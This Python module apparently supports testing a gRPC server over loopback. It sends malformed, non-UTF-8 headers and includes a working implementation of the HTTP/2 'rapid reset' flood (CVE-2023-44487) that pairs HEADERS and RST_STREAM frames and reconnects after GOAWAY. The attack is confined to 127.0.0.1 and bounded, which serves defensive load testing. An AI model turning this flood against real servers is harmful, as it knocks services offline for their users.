"""Raw HTTP/2 on loopback, for what the grpc client refuses or never does: metadata values
that are not UTF-8, and streams opened and reset at once in a loop (the "rapid reset"
attack, CVE-2023-44487).

- :func:`grpc_call`: one unary gRPC call over h2c with headers of the caller's choosing,
  byte for byte; returns the response headers and trailers as sent.
- :class:`RapidReset`: an attacker on its own connection(s) sending HEADERS + RST_STREAM
  pairs, precomputed, as fast as the socket takes them, reconnecting whenever the server
  closes the connection; bounded by time and by stream count.
"""

from __future__ import annotations

import asyncio
import struct
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
_END_HEADERS, _ACK = 0x4, 0x1
_CANCEL = 0x8
MAX_STREAM_ID = 2**31 - 1

Headers = list[tuple[bytes, bytes]]


def grpc_frame(message: bytes) -> bytes:
    """A gRPC length-prefixed message (uncompressed)."""
    return b"\x00" + struct.pack(">I", len(message)) + message


def grpc_headers(port: int, path: str, *extra: tuple[bytes, bytes]) -> Headers:
    """Request headers of a unary gRPC call to ``path`` on ``127.0.0.1:port``."""
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":authority", f"127.0.0.1:{port}".encode()),
        (b":path", path.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    ]


@dataclass
class GrpcReply:
    """What the server sent back on one stream."""

    headers: Headers = field(default_factory=list)
    trailers: Headers = field(default_factory=list)
    data: bytes = b""
    reset: int | None = None
    """The RST_STREAM error code, if the server reset the stream."""

    def header(self, name: bytes) -> bytes | None:
        """A header or trailer value (trailers first), ``None`` if absent."""
        for key, value in (*self.trailers, *self.headers):
            if key == name:
                return value
        return None


async def grpc_call(
    port: int, headers: Headers, message: bytes, *, timeout_s: float = 10.0
) -> GrpcReply:
    """Send one unary gRPC call with exactly ``headers`` (no validation, no normalisation:
    values may be any bytes) and ``message``; wait for the stream to end."""
    config = h2.config.H2Configuration(
        client_side=True,
        header_encoding=None,
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=False,
    )
    conn = h2.connection.H2Connection(config=config)
    reply = GrpcReply()
    async with asyncio.timeout(timeout_s):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            conn.initiate_connection()
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            conn.send_data(stream, grpc_frame(message), end_stream=True)
            writer.write(conn.data_to_send())
            await writer.drain()
            for _ in range(10_000):  # bounded: a few frames are expected
                chunk = await reader.read(65536)
                if not chunk:
                    break
                ended = False
                for event in conn.receive_data(chunk):
                    if isinstance(event, h2.events.ResponseReceived):
                        reply.headers = [(bytes(k), bytes(v)) for k, v in event.headers or ()]
                    elif isinstance(event, h2.events.TrailersReceived):
                        reply.trailers = [(bytes(k), bytes(v)) for k, v in event.headers or ()]
                    elif isinstance(event, h2.events.DataReceived):
                        reply.data += event.data or b""
                        conn.acknowledge_received_data(
                            event.flow_controlled_length or 0, event.stream_id or stream
                        )
                    elif isinstance(event, h2.events.StreamReset):
                        reply.reset = int(event.error_code or 0)
                        ended = True
                    elif isinstance(event, h2.events.StreamEnded | h2.events.ConnectionTerminated):
                        ended = True
                writer.write(conn.data_to_send())
                if ended:
                    break
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except ConnectionError:
                pass
    return reply


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def header_block(headers: Headers) -> bytes:
    """An HPACK block that never touches the dynamic table, so the same bytes are valid as
    every stream's headers on one connection."""
    return hpack.Encoder().encode([(k, v, True) for k, v in headers], huffman=False)


@dataclass
class RapidResetStats:
    """What one :class:`RapidReset` run did."""

    streams: int = 0
    """HEADERS + RST_STREAM pairs written."""
    connections: int = 0
    goaways: int = 0
    seconds: float = 0.0


class RapidReset:
    """HEADERS + RST_STREAM(CANCEL) in a loop on one connection at a time, for ``seconds``
    or ``max_streams`` streams, whichever comes first. When the server closes the
    connection (GOAWAY, EOF) the attacker opens a new one, as a real attacker would."""

    def __init__(
        self,
        port: int,
        headers: Headers,
        *,
        batch: int = 100,
        max_streams: int = 2_000_000,
        max_connections: int = 1000,
    ) -> None:
        self._port = port
        self._block = header_block(headers)
        self._batch = batch
        self._max_streams = max_streams
        self._max_connections = max_connections
        self.stats = RapidResetStats()

    def _pairs(self, first: int, count: int) -> bytes:
        out = bytearray()
        rst = struct.pack(">I", _CANCEL)
        for stream in range(first, first + 2 * count, 2):
            out += _frame(_HEADERS, _END_HEADERS, stream, self._block)
            out += _frame(_RST_STREAM, 0, stream, rst)
        return bytes(out)

    async def run(self, seconds: float) -> RapidResetStats:
        """Attack for ``seconds`` (bounded by stream and connection counts too)."""
        started = time.monotonic()
        deadline = started + seconds
        for _ in range(self._max_connections):
            if time.monotonic() >= deadline or self.stats.streams >= self._max_streams:
                break
            await self._one_connection(deadline)
        self.stats.seconds = time.monotonic() - started
        return self.stats

    async def _one_connection(self, deadline: float) -> None:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
        except OSError:
            await asyncio.sleep(0.05)
            return
        self.stats.connections += 1
        closed = asyncio.Event()

        async def read() -> None:
            # Answer SETTINGS and PING as a client must, count GOAWAY, discard the rest.
            buffer = b""
            try:
                for _ in range(10_000_000):  # bounded; EOF or the deadline ends it far sooner
                    chunk = await reader.read(65536)
                    if not chunk:
                        break
                    buffer += chunk
                    while len(buffer) >= 9:
                        length = int.from_bytes(buffer[:3], "big")
                        if len(buffer) < 9 + length:
                            break
                        kind, flags = buffer[3], buffer[4]
                        payload = buffer[9 : 9 + length]
                        buffer = buffer[9 + length :]
                        if kind == _SETTINGS and not flags & _ACK:
                            writer.write(_frame(_SETTINGS, _ACK, 0, b""))
                        elif kind == _PING and not flags & _ACK:
                            writer.write(_frame(_PING, _ACK, 0, payload))
                        elif kind == _GOAWAY:
                            self.stats.goaways += 1
            except (ConnectionError, OSError):
                pass
            finally:
                closed.set()

        reading = asyncio.create_task(read())
        try:
            # A server that stops reading blocks drain(): the deadline bounds that too.
            async with asyncio.timeout(max(deadline - time.monotonic(), 0.0)):
                writer.write(PREFACE + _frame(_SETTINGS, 0, 0, b""))
                stream = 1
                while not closed.is_set() and time.monotonic() < deadline:
                    if self.stats.streams >= self._max_streams:
                        break
                    if stream + 2 * self._batch > MAX_STREAM_ID:
                        break
                    writer.write(self._pairs(stream, self._batch))
                    stream += 2 * self._batch
                    self.stats.streams += self._batch
                    await writer.drain()
                    await asyncio.sleep(0)  # drain() need not yield: let the reader run
        except (TimeoutError, ConnectionError, OSError):
            pass
        finally:
            writer.close()
            reading.cancel()
            try:
                await reading
            except asyncio.CancelledError:
                pass
            try:
                await writer.wait_closed()
            except (ConnectionError, OSError):
                pass
